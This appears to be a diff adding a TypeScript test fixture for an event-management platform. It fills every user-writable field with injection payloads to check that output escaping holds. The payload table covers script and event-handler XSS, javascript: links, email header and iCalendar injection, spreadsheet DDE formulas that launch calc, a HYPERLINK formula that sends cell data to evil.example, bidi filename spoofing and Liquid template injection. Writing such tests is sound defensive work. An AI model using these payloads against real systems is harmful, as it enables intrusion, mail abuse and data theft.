@@ -1,0 +1,90 @@
+import * as api from '@foyer/contracts'
+import type { Foyer } from './foyer.ts'
+import { FAR_AWAY } from './open-event.ts'
+
+/** What a browser, a mail program, a calendar, a spreadsheet or a template engine might take for more than words. */
+export const HOSTILE: Record<string, string> = {
+  'a script': `<script>window.__hit='script'</script>`,
+  'a picture that runs': `"><img src=x onerror="window.__hit='img'"><svg onload=window.__hit=1>`,
+  'an attribute': `' " onmouseover=window.__hit=1 autofocus onfocus='window.__hit=1' style="position:fixed`,
+  'the end of every element': `</title></textarea></select></script></style>--></p><b onclick=window.__hit=1>`,
+  'a link that runs': `[x](javascript:window.__hit=1) <a href="javascript:window.__hit=1">x</a> javascript:window.__hit=1`,
+  'a picture elsewhere': `![x](http://evil.example/x.png) [y](http://evil.example) <https://evil.example>`,
+  'another heading': `a\n\n# b\n\n- c\n> d\n\n    e\n\n| f | g |\n|---|---|\n`,
+  Liquid: `{{ 7 | times: 191 }}{% assign x = 1 %}{% for i in (1..9) %}{{ event.name }}{% endfor %}{% raw %}`,
+  'a header of a mail': `Ada\r\nBcc: evil@evil.example\r\nSubject: other\r\n\r\nbody`,
+  'another recipient': `Ada" <evil@evil.example>, "Bob`,
+  'a line of a calendar': `x\r\nATTENDEE:mailto:evil@evil.example\nEND:VEVENT\nBEGIN:VEVENT\\;X=1,2:3"`,
+  'a formula': `=HYPERLINK("http://evil.example/?"&A1,"x")`,
+  'a formula with a plus': `+1+cmd|' /C calc'!A0`,
+  'a formula with a minus': `-2+3+cmd|' /C calc'!A0`,
+  'a formula with an at': `@SUM(1+1)*cmd|' /C calc'!A0`,
+  'a formula after a tab': `\t=1+1;\r=2+2\n=3+3`,
+  'a formula in wide letters': ` "＝1+1", ＠SUM(1)`,
+  'the other direction': `\u202Egnp.exe\u202C \u2066x\u2069 \u200F`,
+  'control characters': `a\u0001b\u0007c\u001bd\u007fe\u0085f\u2028g\ufeffh\uffffi`,
+  'what XML reads': `&lt;b&gt; &#60;script&#62; ]]> <!-- <?php _x0041_ &amp;amp;`,
+}
+
+/** An event in which every text somebody may write is `text`, with a registrant, an invite and a campaign link. */
+export async function hostileEvent(foyer: Foyer, text: string, settings: Record<string, unknown> = {}) {
+  const organizer = await foyer.organizer()
+  await organizer.do(api.updateCurrentWorkspace, { body: { name: text } })
+  const url = `https://evil.example/"><script>window.__hit=1</script>'`
+  // A browser sends a choice with its white space tidied up.
+  const option = asSeen(text)
+  const fields = [
+    { key: 'words', label: text, type: 'text', helpText: text },
+    { key: 'choice', label: text, type: 'select', options: [option, 'other'] },
+    { key: 'choices', label: text, type: 'multi-select', options: [option, 'other'], required: true },
+    { key: 'story', label: text, type: 'long-text', visibleIf: { field: 'words', equals: text.trim() } },
+    { key: 'yes', label: text, type: 'consent' },
+  ]
+  const form = await organizer.do(api.createForm, { body: { name: text, fields } })
+  const event = await organizer.do(api.createEvent, {
+    body: {
+      ...FAR_AWAY,
+      name: text,
+      slug: 'hostile',
+      shortDescription: text,
+      location: { location: text, fullAddress: text, context: [{ id: text, text }] },
+      previewThumbnailUrl: url,
+      registrationFormId: form.id,
+      ...settings,
+    },
+  })
+  const params = { eventId: event.id }
+  await organizer.do(api.createSpeaker, { params, body: { name: text, title: text, bio: text, avatar: url } })
+  const sponsor = await organizer.do(api.addSponsor, { params, body: { name: text, website: url, logo: url } })
+  await organizer.do(api.addSponsor, { params, body: { name: `${text} 2`, website: url } })
+  const showcases = [{ title: text, sponsorIds: [sponsor.sponsorId] }]
+  await organizer.do(api.replaceLogoShowcases, { params, body: { showcases } })
+  const campaign = await organizer.do(api.createMarketingCampaign, { body: { name: text } })
+  const tags = { source: text, medium: text, campaign: text, term: text, content: text, referral: text }
+  await organizer.do(api.createCampaignLink, { params, body: { marketingCampaignId: campaign.id, label: text, ...tags } })
+  await organizer.do(api.publishEvent, { params })
+  const answers = { words: text, choice: option, choices: [option], story: text, yes: true }
+  const path = `/${organizer.slug}/hostile`
+  const door = { orgSlug: organizer.slug, eventSlug: 'hostile' }
+  const register = (email: string, more: object = {}) =>
+    foyer.visitor.do(api.registerForEvent, { params: door, body: { name: text, email, answers, campaign: text, ...more } })
+  const codeOf = async (email: string) => {
+    const { registrants } = await organizer.do(api.listRegistrants, { params })
+    return foyer.services.tokens.signId('manage', registrants.find((registrant) => registrant.email === email)!.id)
+  }
+  return { organizer, event, params, path, door, answers, register, codeOf }
+}
+
+/** The elements of a document with the names of their attributes: all that a text could change in it if it were more than text. */
+export function skeletonOf(html: string): string[] {
+  const tags = [...html.matchAll(/<(\/?[a-z][a-z0-9-]*)((?:\s+[a-z][\w:-]*(?:="[^"<]*")?)*)\s*\/?>/gi)]
+  const known = tags.length + (html.match(/<!doctype html>/g)?.length ?? 0)
+  const all = html.match(/</g)?.length ?? 0
+  if (known !== all) throw new Error(`${all - known} times “<” begins something that is no plain element`)
+  return tags.map(([, name, attributes]) =>
+    [name, ...[...attributes!.matchAll(/\s+([a-z][\w:-]*)(?:="[^"]*")?/gi)].map(([, one]) => one)].join(' '),
+  )
+}
+
+/** What a reader sees of a text: runs of white space are one space, and control characters nothing. */
+export const asSeen = (text: string): string => text.replace(/\s+/g, ' ').trim()
